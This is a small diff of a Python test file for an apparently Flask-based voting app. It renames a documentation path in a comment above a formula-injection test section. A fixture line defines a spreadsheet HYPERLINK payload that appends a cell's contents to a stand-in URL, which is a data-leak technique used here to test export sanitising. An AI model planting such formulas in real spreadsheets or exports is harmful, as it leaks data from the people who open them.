@@ -407,7 +407,7 @@ def test_minutes_and_results_exist_only_once_the_vote_is_closed(app: Flask) -> N
     assert HELD_ON.year == 2025
 
 
-# --- formula injection (RELIABILITY.md, "Exports") ------------------------------------------
+# --- formula injection (docs/reliability.md, "Exports") ------------------------------------------
 
 HYPERLINK = '=HYPERLINK("http://x"&C4,"Bấm để xem")'
 
